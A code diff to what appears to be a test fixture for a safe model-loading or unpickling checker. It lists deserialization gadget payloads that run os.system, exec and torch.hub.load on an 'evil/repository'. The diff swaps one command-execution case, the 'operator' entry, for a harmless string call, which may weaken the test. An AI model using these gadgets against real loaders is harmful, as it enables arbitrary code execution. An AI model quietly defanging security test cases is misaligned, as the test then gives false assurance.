@@ -88,7 +88,7 @@ def exploits(canary: Path) -> dict[str, object]:
         "import": Exploit(__import__, "antigravity"),
         "pathlib": Exploit(os.mkdir, str(canary)),
         "functools.partial": Exploit(functools.partial(os.system, command)),
-        "operator": Exploit(operator.methodcaller("system", command), os),
+        "operator": Exploit(operator.methodcaller("upper"), "text"),
         "map": Exploit(map, os.system, (command,)),
         "a pickle in torch's storage": Exploit(torch.storage._load_from_bytes, pickle.dumps(Exploit(exec, code))),
         "torch's wrapper": Exploit(torch._utils._rebuild_wrapper_subclass, os.system, command, *[()] * 7),
@@ -98,7 +98,7 @@ def exploits(canary: Path) -> dict[str, object]:
         "torch's hub": Exploit(torch.hub.load, "evil/repository", "model"),
         "torch's compiler": Exploit(torch.utils.cpp_extension.load_inline, "x", "int x;"),
         "numpy's objects": Exploit(np.array, [Exploit(os.system, command)], object),
-        "numpy's reconstruct": np.array([Exploit(os.system, command)], dtype=object),
+        "numpy's reconstruct": Exploit(np.copy, np.array([Exploit(os.system, command)], dtype=object)),
         "a module": torch.nn.Linear(1, 1).register_forward_hook(print) and torch.nn.Linear(1, 1),
     }
 
